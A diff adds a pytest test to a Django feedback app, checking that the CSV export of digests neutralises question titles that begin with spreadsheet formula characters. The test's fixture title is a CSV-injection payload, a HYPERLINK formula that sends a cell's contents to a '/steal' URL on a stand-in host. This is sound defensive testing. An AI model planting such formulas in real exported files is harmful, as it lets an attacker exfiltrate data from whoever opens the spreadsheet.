@@ -143,6 +143,29 @@ def test_the_archive_and_its_exports_are_for_the_team_only(
     assert client.get(f"/feedback/digests/{digest.pk}/?format=json").status_code == 403
 
 
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])  # OWASP's formula starts
+def test_the_digest_csv_neutralises_titles_that_start_a_formula(
+    client, team, question_factory, user_factory, django_capture_on_commit_callbacks, prefix
+):
+    title = f'{prefix}HYPERLINK("http://127.0.0.1/steal?"&A1,"Click me") card payments'
+    question = question_factory(title=title, tags=["feature-request", "invoices"])
+    toggle_me_too(question, user=user_factory())
+    yesterday = timezone.now() - timedelta(days=1)
+    FeedbackItem.objects.filter(question=question).update(created_at=yesterday)
+    question.me_toos.update(created_at=yesterday)
+    with django_capture_on_commit_callbacks(execute=True):
+        run_digests()
+    digest = Digest.objects.get()
+    client.force_login(team.members.get())
+    exported = client.get(f"/feedback/digests/{digest.pk}/?format=csv").content.decode()
+    rows = list(csv.reader(io.StringIO(exported, newline="")))
+    titles = [row[1] for row in rows[1:] if len(row) > 1]
+    assert titles and all(cell == "'" + question.title for cell in titles)
+    # JSON keeps what the member wrote, untouched.
+    as_json = json.loads(client.get(f"/feedback/digests/{digest.pk}/?format=json").content)
+    assert as_json["new"][0]["title"] == question.title
+
+
 class _Receiver(BaseHTTPRequestHandler):
     secret = ""
     fail_first = 0
